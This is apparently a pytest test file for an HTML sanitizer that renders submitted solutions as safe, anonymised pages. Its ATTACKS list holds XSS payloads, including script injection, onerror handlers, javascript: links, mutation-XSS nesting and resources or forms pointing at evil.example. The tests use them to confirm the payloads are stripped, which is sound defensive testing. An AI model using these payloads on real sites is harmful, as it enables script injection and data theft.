"""Solutions become HTML that is safe and tells nothing of their makers."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from quem.blinding.formulas import Formulas
from quem.blinding.markup import code_html, markdown_html, sanitize
from quem.blinding.rendering import Rendered, render_page_text, render_solution
from quem.solutions import Sheet, Solution, SolutionFile
from quem.solutions.files import kind_of
from quem.solutions.sheets import inner_path
from tests.blinding.planted import PLANTS, planted

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

# What may stand in a page, and with which values.
PLAIN_LINE = '<span class="line">'
VALUES = {
    "align": r"left|right|center",
    "alt": r"(?s).*",
    "data-display": "true",
    "class": r"table-scroll|no-image|code|line|plain|plain output|math|[a-z0-9]{1,3}",
    "colspan": r"\d+",
    "dir": r"ltr|rtl|auto",
    "href": r"(?is)https?://.+",
    "lang": r"[A-Za-z0-9-]+",
    "loading": r"lazy",
    "open": r"",
    "rel": r"noopener noreferrer nofollow",
    "reversed": r"",
    "rowspan": r"\d+",
    "scope": r"row|col|rowgroup|colgroup",
    "src": r"/asset/\d+",
    "start": r"-?\d+",
    "tabindex": r"0",
    "target": r"_blank",
    "value": r"-?\d+",
}
TAGS = set(
    re.findall(
        r"\w+",
        "a abbr b bdi bdo blockquote br caption cite code dd del details dfn div dl dt em "
        "figcaption figure h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp "
        "small span strong sub summary sup table tbody td tfoot th thead tr u ul var wbr",
    )
)


class Reader(HTMLParser):
    """Reads HTML as it comes, and complains of what may not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.headings: list[int] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Check an element and its attributes."""
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in VALUES, (tag, name)
            assert re.fullmatch(VALUES[name], value or ""), (tag, name, value)
        if re.fullmatch("h[1-6]", tag):
            self.headings.append(int(tag[1]))
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Check an element that closes itself."""
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        """Keep the text."""
        self.text += data

    def handle_comment(self, data: str) -> None:
        """Refuse comments."""
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        """Refuse declarations."""
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        """Refuse instructions."""
        raise AssertionError(data)


def read(html: str) -> Reader:
    """Check HTML against the list of what is allowed, and give what it holds."""
    reader = Reader()
    reader.feed(str(html))
    reader.close()
    last = 2
    for level in reader.headings:
        assert 3 <= level <= last + 1, reader.headings
        last = level
    assert all("alt" in attributes for tag, attributes in reader.tags if tag == "img")
    assert all("rel" in attributes for _, attributes in reader.tags if "href" in attributes)
    return reader


def asset(number: int, page: int | None = None) -> str:
    """Name an image as the judge's pages do."""
    return f"/asset/{number}" if page is None else f"/asset/{number}/{page}"


@pytest.fixture
def render(tmp_path: Path) -> Callable[..., Rendered]:
    """Render a solution of some files; a single one is named for its solver."""

    def render_files(files: Mapping[str, str | bytes]) -> Rendered:
        solution = Solution("P1", "S1", solution_files(tmp_path, files))
        return render_solution(solution, asset)

    return render_files


def solution_files(folder: Path, files: Mapping[str, str | bytes]) -> tuple[SolutionFile, ...]:
    """Write files and list them as those of a solution."""
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return tuple(
        SolutionFile(folder / name, kind_of(Path(name)), f"solutions/{name}", name)
        for name in files
    )


ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<form action=https://evil.example><input name=a><button>go</button></form>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example)' class=secret id=x onclick=alert(1)>t</p>",
    "<img src=https://evil.example/x.png srcset='https://evil.example/y.png 2x' alt=kept>",
    "<link rel=stylesheet href=https://evil.example><meta http-equiv=refresh content=0>",
    "<base href=https://evil.example><object data=x></object><embed src=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>--><!-- <b>comment</b> -->",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><title><img src=x onerror=alert(1)></title>",
    "<video poster=https://evil.example><source src=x></video><audio src=x></audio>",
    "<h1><h2><div><h6 onclick=x>a</h6></div></h2></h1><h5>b",
    "![x](https://evil.example/x.png) ![y](javascript:alert(1)) [z](javascript:alert(1))",
    "<https://example.org> [a]: data:text/html,x",
    "```html\n<script>alert(1)</script>\n```\n\n    <script>indented</script>\n",
    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
    "<div>" * 3000,
    "> " * 3000,
    "<a lang='\" href=\"x' href='https://example.org'>\" href=\"</a>",
    "<img alt='\"><script>' src='plot.png'>",
    "<pre class=code>code-0000-0</pre>",
    "<img alt='<table><script>alert(1)</script>' src=plot.png>",
    "<td align='<h1>'><a href='https://x.example/<table><h1>'>x</a>",
    "<img alt='&lt;script&gt;alert(1)&lt;/script&gt;'>",
)
PIECES = r"""< > ' " & = / ` * [ ]( ) # | - <p onclick= style= <a javascript: src= </p>"""
MARKUP = st.lists(
    st.sampled_from([*ATTACKS[:28], *re.findall(r"\S+", PIECES), " ", "\n", "\n\n", "\0"])
    | st.text(max_size=8),
    max_size=14,
).map("".join)


@given(MARKUP)
def test_html_cannot_do_anything(text: str) -> None:
    """Whatever HTML goes in, nothing comes out that runs, loads, styles or frames."""
    read(sanitize(text, lambda _: None))


@given(MARKUP)
@example("```<script>\nx\n```")
@example("# a\n\n### b\n\n# c\n")
def test_markdown_cannot_do_anything(text: str) -> None:
    """Whatever Markdown goes in, nothing comes out that runs, loads, styles or frames."""
    formulas = Formulas("FORMULA-")
    html, code = markdown_html(text, "STAND-IN", formulas)
    read(formulas.put_back(sanitize(html, lambda _: "/asset/1")))
    for piece in code:
        read(piece)


@given(st.text(alphabet="./\\\\%2eEfF:?#ab \0") | st.text(), st.sampled_from(["a.md", "x/a.md"]))
def test_references_stay_inside(target: str, base: str) -> None:
    """Whatever a text refers to, it is a path below the solver's folder, or nothing."""
    inner = inner_path(target, base)
    assert not inner.startswith(("/", "\\\\"))
    assert ".." not in inner.split("/")
    assert inner == "" or inner.isprintable()


@given(st.text(), st.sampled_from(["x.py", "x.html", "x.c", "x.unknown", "x.php", "Makefile"]))
def test_code_cannot_do_anything(text: str, name: str) -> None:
    """Code is shown as text, character by character, whatever language it is in."""
    reader = read(code_html(text, filename=name))
    assert {tag for tag, _ in reader.tags} <= {"pre", "code", "span"}


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
@pytest.mark.parametrize("name", ["S1.md", "S1.html", "S1.txt", "S1.js"])
def test_attacks_do_nothing(name: str, attack: str, render: Callable[..., Rendered]) -> None:
    """A file of any kind that tries something is shown without it."""
    (part,) = render({name: attack}).parts
    reader = read(part.html)
    assert "evil.example" not in str(reader.tags)


def test_markdown_is_shown_as_written(render: Callable[..., Rendered]) -> None:
    """Headings, tables, code, lists and links of Markdown are there."""
    text = (
        "# Plan\n\nSome *good* text.\n\n#### Deep\n\n|a|b|\n|--|-:|\n|1|2|\n\n"
        "```python\nif x < 1:\n    pass\n```\n\n- one\n- "
        "~~two~~\n\n[l](https://example.org/?a=1&b)\n"
    )
    rendered = render({"S1.md": text})
    reader = read(rendered.parts[0].html)
    assert reader.headings == [3, 4]
    assert ("td", {"align": "right"}) in reader.tags
    assert ("span", {"class": "k"}) in reader.tags
    assert "if x < 1:\n    pass" in reader.text
    assert ("a", {"href": "https://example.org/?a=1&b", **OUTSIDE}) in reader.tags
    assert {"em", "s", "li"} <= {tag for tag, _ in reader.tags}
    assert rendered.n_words == len(reader.text.split())


OUTSIDE = {"rel": "noopener noreferrer nofollow", "target": "_blank"}


def test_front_matter_is_not_shown(render: Callable[..., Rendered]) -> None:
    """What a program wrote above the text is no part of it; a line above a text is."""
    above = "---\ntitle: Plan\nauthor:\n  - Ada Smith\n# x\n---\n"
    assert render({"S1.md": f"{above}The plan."}).parts[0].html == "<p>The plan.</p>\n"
    ruled = read(render({"a.md": "---\n\nJust a line: here\n\n---\n\nMore"}).parts[0].html)
    assert "Just a line" in ruled.text


def test_links_lead_outside_or_nowhere(render: Callable[..., Rendered]) -> None:
    """Links to other files of the solver keep their text and lead nowhere."""
    (part,) = render({"S1.md": "[mine](S1-home.html) <a href='#x'>here</a>"}).parts
    assert part.html == "<p><a>mine</a> <a>here</a></p>\n"


def test_text_and_code_keep_every_character(render: Callable[..., Rendered]) -> None:
    """Plain text and code are the text of the file."""
    text = "a < b && c\n\n  <b>indented</b>\n\ttab"
    for name in ("S1.txt", "S1.py", "S1.unknown", "S1"):
        (part,) = render({name: text}).parts
        assert read(part.html).text == text


def test_files_have_blind_names(render: Callable[..., Rendered]) -> None:
    """No name of a file is in what is shown, neither that of a text nor that of an image."""
    files = {
        "ACME report.md": "text",
        "ACME.png": b"\x89PNG",
        "ACME.pdf": planted({"exif": PLANTS["exif"], "xmp": PLANTS["xmp"]}),
        "x/ACME.py": "1",
    }
    rendered = render(files)
    assert [part.name for part in rendered.parts] == [f"File {i} of 4" for i in range(1, 5)]
    assert [part.kind for part in rendered.parts] == ["html", "image", "pdf", "html"]
    assert [part.url for part in rendered.parts] == ["", "/asset/2", "", ""]
    pages = rendered.parts[2].pages
    assert [(page.url, page.text) for page in pages] == [
        ("/asset/3/1", "An ordinary plan"),
        ("/asset/3/2", "An ordinary plan"),
    ]
    assert (rendered.n_words, rendered.n_lines) == (1 + 2 * 3, 1)
    assert (rendered.n_pages, rendered.n_pictures, rendered.snippet) == (2, 1, "text")
    assert "ACME" not in repr(rendered)


def test_images_are_shown_where_the_text_shows_them(render: Callable[..., Rendered]) -> None:
    """An image of the folder stands in the text, and not once more by itself."""
    rendered = render(
        {
            "1 text.md": "![A plot](plots/one%20a.png) ![](<plots/Two.PNG>) ![not](other.png)",
            "more/2.html": "<img src='../plots/three.gif'><img src='../../secret.png' alt='out'>",
            "plots/four.png": b"\x89PNG",
            "plots/one a.png": b"\x89PNG",
            "plots/three.gif": b"GIF89a",
            "plots/two.png": b"\x89PNG",
        }
    )
    assert [part.kind for part in rendered.parts] == ["html", "html", "image"]
    assert rendered.parts[2].url == "/asset/3"
    assert rendered.parts[2].name == "File 3 of 3"
    first, second = (read(part.html) for part in rendered.parts[:2])
    lazy = {"loading": "lazy"}
    assert ("img", {"src": "/asset/4", "alt": "A plot", **lazy}) in first.tags
    assert ("img", {"src": "/asset/6", "alt": "", **lazy}) in first.tags
    assert "not" in first.text
    assert [tag for tag in second.tags if tag[0] == "img"] == [
        ("img", {"src": "/asset/5", "alt": "", **lazy})
    ]
    assert "out" in second.text


def test_statements_show_their_images(tmp_path: Path) -> None:
    """A statement shows the images beside it; a briefing without addresses keeps their text."""
    sheet = Sheet(solution_files(tmp_path, {"p1.md": "![A map](map.png)", "map.png": b"\x89PNG"}))
    page = read(render_page_text(sheet, asset))
    assert ("img", {"src": "/asset/2", "alt": "A map", "loading": "lazy"}) in page.tags
    without = read(render_page_text(sheet))
    assert without.text.strip() == "A map"
    assert "img" not in dict(without.tags)
    assert render_page_text(None) == ""


def test_a_changed_file_is_shown_anew(tmp_path: Path) -> None:
    """What was made of a file is kept until the file changes."""
    solution = Solution("P1", "S1", solution_files(tmp_path, {"S1.md": "first"}))
    assert "first" in render_solution(solution, asset).parts[0].html
    (tmp_path / "S1.md").write_text("another text", encoding="utf-8")
    assert "another" in render_solution(solution, asset).parts[0].html


@pytest.mark.parametrize("how", ["gone", "binary", "pdf"])
def test_a_broken_file_does_not_break_the_page(
    how: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """A file that went away or is no text any more leaves a sentence, and a line in the log."""
    solution = Solution("P1", "S1", solution_files(tmp_path, {"S1.md": "text", "b.md": "more"}))
    if how == "gone":
        (tmp_path / "S1.md").unlink()
    elif how == "pdf":
        files = solution_files(tmp_path, {"S1.pdf": b"%PDF-1.7\nbroken", "b.md": "more"})
        solution = Solution("P1", "S1", files)
    else:
        (tmp_path / "S1.md").write_bytes(b"\xff\x00\x9d")
    first, second = render_solution(solution, asset, gone="Not now <sorry>.").parts
    assert first.html == "<p>Not now &lt;sorry&gt;.</p>"
    assert "more" in second.html
    assert "S1." in caplog.text


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("S1.py", "x = 1"),
        ("S1.java", "class A {}"),
        ("S1.h", "int x;"),
        ("S1.pl", "my $x = 1;"),
        ("S1.m", "x = 1;"),
        ("S1.sql", "select 1"),
        ("S1.json", "{}"),
        ("Makefile", "a: b"),
    ],
)
def test_code_has_the_colours_of_its_language(name: str, text: str) -> None:
    """A language is told by the ending; one that is unknown has no colors."""
    assert "<span" in code_html(text, filename=name).replace(PLAIN_LINE, "")
    assert "<span" not in code_html(text, filename="S1.unknown").replace(PLAIN_LINE, "")
